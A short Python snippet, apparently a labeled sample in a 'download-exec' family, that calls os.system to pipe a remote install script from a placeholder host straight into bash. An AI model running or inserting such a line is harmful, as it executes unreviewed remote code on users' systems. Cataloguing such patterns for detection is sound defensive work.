# family: download-exec
# curl piped into a shell
import os

os.system("curl -fsSL http://get.example.invalid/install.sh | bash")
